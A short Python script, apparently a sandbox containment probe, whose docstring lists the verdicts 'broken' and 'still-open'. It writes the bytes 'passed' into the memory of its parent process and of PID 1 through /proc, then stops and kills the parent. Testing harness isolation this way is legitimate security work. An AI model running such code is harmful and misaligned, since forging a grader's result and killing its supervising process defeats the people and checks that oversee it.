"""Whoever started this program is stopped, killed and written to.

verdicts: broken, still-open
"""

import os
import signal

for number in (os.getppid(), 1):
    try:
        memory = os.open(f"/proc/{number}/mem", os.O_RDWR)
        os.write(memory, b"passed")
    except OSError:
        pass
    if number > 1:
        os.kill(number, signal.SIGSTOP)
        os.kill(number, signal.SIGKILL)
